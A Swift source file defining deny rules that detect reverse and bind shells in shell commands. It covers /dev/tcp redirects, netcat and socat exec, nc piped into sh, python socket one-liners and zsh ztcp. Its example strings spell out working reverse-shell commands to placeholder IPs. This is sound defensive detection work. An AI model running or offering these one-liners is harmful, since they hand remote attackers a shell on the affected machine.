/// Reverse and bind shells: `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `socat exec:`,
/// shells reading from or writing to network tools in a pipeline (mkfifo + nc, telnet | sh),
/// socket + exec one-liners in python/perl/php/ruby/node/awk.
enum ReverseShellRules {
    static let devTCP = ShellRule("revshell.dev-tcp", .deny, "connects a shell's input/output to a network socket (/dev/tcp): a reverse shell",
        examples: ["bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "sh -i >& /dev/udp/203.0.113.9/53 0>&1"], counterExamples: ["bash scripts/setup.sh", "bash -c 'set -euo pipefail; ./scripts/test.sh'"])
    static let netcatExec = ShellRule("revshell.netcat-exec", .deny, "netcat with -e/-c/--exec hands a shell to the network",
        examples: ["nc -e /bin/sh 10.0.0.1 4242", "ncat 10.0.0.1 4242 -e /bin/bash"], counterExamples: ["nc -zv localhost 5432"])
    static let socatExec = ShellRule("revshell.socat-exec", .deny, "socat connects a program (EXEC:/SYSTEM:) to the network",
        examples: ["socat tcp-connect:10.0.0.1:4242 exec:/bin/sh,pty,stderr", "socat TCP:10.0.0.1:4242 EXEC:'bash -li',pty,stderr,setsid"], counterExamples: ["rm -rf ~/.cache/pip"])
    static let pipeShell = ShellRule("revshell.pipe", .deny, "a shell reads commands from, or sends its output to, a network connection",
        examples: ["nc 10.0.0.1 4242 | sh", "nc -l 4444 | bash"], counterExamples: ["nc -zv localhost 5432"])
    static let inline = ShellRule("revshell.inline", .deny, "inline code opens a network socket and runs a shell or command over it",
        examples: ["python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", "python -c 'import pty,socket;s=socket.socket();s.connect((\"h\",1));pty.spawn(\"/bin/bash\")'"], counterExamples: ["python3 -c \"import shutil; shutil.rmtree('build')\"", "python3 -c 'import socket; print(socket.gethostname())'"])
    static let ztcp = ShellRule("revshell.zsh-tcp", .deny, "zsh's TCP module (ztcp) wires a shell to the network",
        examples: ["zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242'"], counterExamples: ["rm -rf ~/.cache/pip"])

    static let all = [devTCP, netcatExec, socatExec, pipeShell, inline, ztcp]

    static func tcpRedirects(_ inv: ShInvocation) -> [String] {
        inv.redirects.compactMap { r in
            let t = r.target.text
            return r.body == nil && (t.hasPrefix("/dev/tcp/") || t.hasPrefix("/dev/udp/")) ? t : nil
        }
    }

    /// Runs at every level of a wrapped command (`exec bash -i &>/dev/tcp/…`).
    static func checkDevTCP(_ inv: ShInvocation, _ a: inout ShellAnalysis, _ env: ShEnv) {
        let tcp = tcpRedirects(inv)
        guard !tcp.isEmpty else { return }
        if ShellAnalysis.shells.contains(inv.name) || ShellAnalysis.interpreterLangs[inv.name] != nil || inv.name == "exec" || inv.dynamic {
            a.report(devTCP, inv.subject)
            return
        }
        for t in tcp {
            let parts = t.split(separator: "/")
            let host = parts.count >= 3 ? String(parts[2]) : ""
            switch HostClassifier.classify(host) {
            case .loopback, .privateNetwork, .unspecified: continue
            case .metadata: a.report(MetadataRules.metadata, inv.subject)
            default: a.report(ExfiltrationRules.devTCP, inv.subject)
            }
        }
    }

    static func check(_ inv: ShInvocation, _ a: inout ShellAnalysis, _ env: ShEnv) {
        let args = inv.argTexts
        switch inv.name {
        case "nc":
            let exec = args.contains { t in
                if ["--exec", "--sh-exec", "--lua-exec"].contains(where: { t == $0 || t.hasPrefix($0 + "=") }) { return true }
                guard t.hasPrefix("-") && !t.hasPrefix("--") && t.count > 1 else { return false }
                return t.dropFirst().contains { $0 == "e" || $0 == "c" }
            }
            if exec { a.report(netcatExec, inv.subject) }
        case "socat":
            if args.contains(where: { let l = $0.lowercased(); return l.contains("exec:") || l.contains("system:") }) { a.report(socatExec, inv.subject) }
        case "ztcp":
            a.report(ztcp, inv.subject)
        case "zmodload":
            if args.contains("zsh/net/tcp") || args.contains("zsh/net/socket") { a.report(ztcp, inv.subject) }
        default:
            break
        }
    }
}
